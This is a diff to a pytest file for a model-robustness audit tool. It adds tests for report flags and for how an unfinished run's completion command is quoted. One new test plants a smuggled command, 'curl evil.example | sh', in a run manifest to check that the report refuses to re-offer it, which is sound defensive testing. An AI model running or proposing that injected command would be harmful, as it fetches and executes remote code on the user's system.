@@ -9,14 +9,15 @@ from typing import Any
 import pytest
 from click.testing import CliRunner
 from compared_runs import FOG, PGD, N, Rows, rows_of, run_of
+from manifests import write_plain
 from page_runs import HOSTILE, Page, make_run, page_of
 
 from robustkit.cli.app import cli
+from robustkit.evaluations.flags import flags_of
 from robustkit.evaluations.gaps import Gap, gaps_of, unfinished
 from robustkit.evaluations.results import Results
 from robustkit.report.figures import looks_of
 from robustkit.report.front import Front, Line, front_of
-from robustkit.report.front_flags import flags_of
 from robustkit.report.refresh import refresh
 from robustkit.results.run import Run
 from robustkit.results.summary import survey
@@ -109,6 +110,18 @@ def test_flags_have_their_subject(tmp_path: Path) -> None:
         ("plain", "fog; snow; frost and 2 more conditions", "small")
     ]
     assert flagged(run, ("plain", "clean", "top1", "incomplete: 3 of 4")) == []  # the page says so above
+    levels = [("plain", text, "top1", "odd" if place < 2 else "") for place, text in enumerate(FOG)]
+    assert flagged(run, *levels) == [("plain", "fog in part", "odd")]
+    assert flagged(run, levels[0], *levels[2:]) == [("plain", "fog, severity 1", "odd")]
+    noise = [
+        ("plain", f"corruption({name},severity={severity})", "top1", "odd")
+        for name in ("gaussian_noise", "shot_noise", "impulse_noise")
+        for severity in (1, 2, 3, 4, 5)
+    ]
+    said = [("plain", "gaussian noise; shot noise; impulse noise", "odd")]  # which is all that their mean is over
+    assert flagged(run, ("plain", "clean", "top1", ""), *noise, ("plain", "noise", "mean_error", "odd")) == said
+    left = ("plain", FOG[0], "miou", "1 of 3 classes is in neither, left out of the mean: t")
+    assert flagged(run, left, ("plain", "corruption(fog)", "miou", "")) == []  # the mean says what matters of it
 
 
 @pytest.fixture
@@ -118,7 +131,7 @@ def half(tmp_path: Path) -> Run:
 
     def halved(manifest: dict[str, Any]) -> None:
         manifest["shard_size"] = N // 2
-        manifest["command"] = "robustkit audit a.pth <b>.pth --data-dir 'my images'"
+        manifest["command"] = "robustkit audit a.pth '<b>.pth' --data-dir 'my images'"
 
     run = run_of(tmp_path / "half", records, halved)
     shutil.rmtree(run.shard_path("other", FOG[2], 0).parent)
@@ -128,10 +141,22 @@ def half(tmp_path: Path) -> Run:
 
 def test_what_an_unfinished_run_lacks(half: Run, tmp_path: Path) -> None:
     assert gaps_of(half) == [Gap("PGD, 1/255, 20 steps", 1, 4), Gap("fog", 2, 20)]
-    line = "are missing; this completes it: robustkit audit a.pth <b>.pth --data-dir 'my images'"
+    line = "are missing; this completes it: robustkit audit a.pth '<b>.pth' --data-dir 'my images'"
     assert unfinished(half) == f"unfinished: 3 of 28 units {line}"
     assert unfinished(half, "other") == f"unfinished: 3 of 14 units {line}" and unfinished(half, "plain") == ""
     assert gaps_of(of_numbers(tmp_path / "whole", plain=(3, 3))) == []
+
+
+def test_a_command_of_someone_else_is_not_offered(half: Run, tmp_path: Path) -> None:
+    plain = half.manifest.to_plain()
+    write_plain(half, plain | {"command": "robustkit audit a.pth; curl evil.example | sh"})
+    refresh(half)
+    page = page_of(half)
+    why = "run.json has it in a form that no audit writes, and a shell may do something else with it"
+    assert f"completes it, which is not repeated here: {why}." in page.text() and not page.all("pre")
+    assert f"curl evil.example | sh ⚑ do not simply type it again: {why}" in page.text("dd")
+    assert unfinished(half).endswith(f"the same command completes it, which is not repeated here: {why}")
+    assert "curl" not in unfinished(half)
 
 
 def test_an_unfinished_run_says_so_wherever_it_is_shown(half: Run, tmp_path: Path) -> None:
@@ -140,7 +165,7 @@ def test_an_unfinished_run_says_so_wherever_it_is_shown(half: Run, tmp_path: Pat
     said = page.text()
     assert "This run is unfinished. 3 units of work are missing" in said
     assert "PGD, 1/255, 20 steps (1 of 4); fog (2 of 20)." in said
-    assert "robustkit audit a.pth <b>.pth --data-dir 'my images'" in page.text("pre")
+    assert "robustkit audit a.pth '<b>.pth' --data-dir 'my images'" in page.text("pre")
     for command in (["report", str(half.path)], ["compare", str(half.path)]):
         done = CliRunner().invoke(cli, command)
         assert done.exit_code == 0 and f"⚑ {half.path}: unfinished: 3 of 28 units are missing" in done.output
